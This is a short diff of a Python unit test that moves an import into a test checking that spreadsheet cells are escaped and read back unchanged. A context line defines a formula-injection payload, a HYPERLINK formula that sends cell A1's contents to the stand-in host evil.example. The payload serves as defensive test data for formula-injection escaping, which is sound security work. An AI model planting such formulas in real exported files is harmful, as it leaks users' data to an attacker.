@@ -14,7 +14,6 @@ import io
 
 import pytest
 
-from monitor.core.display import from_spreadsheet_cell, spreadsheet_cell
 from monitor.storage.models import Account
 from tests.unit.monitor.registry.test_registry import ACCOUNTS, export, load, seed
 
@@ -36,6 +35,8 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
     ],
 )
 def test_a_cell_is_written_safe_for_a_spreadsheet_and_read_back_the_same(cell, written):
+    from monitor.core.display import from_spreadsheet_cell, spreadsheet_cell
+
     assert spreadsheet_cell(cell) == written
     assert from_spreadsheet_cell(written) == cell
 
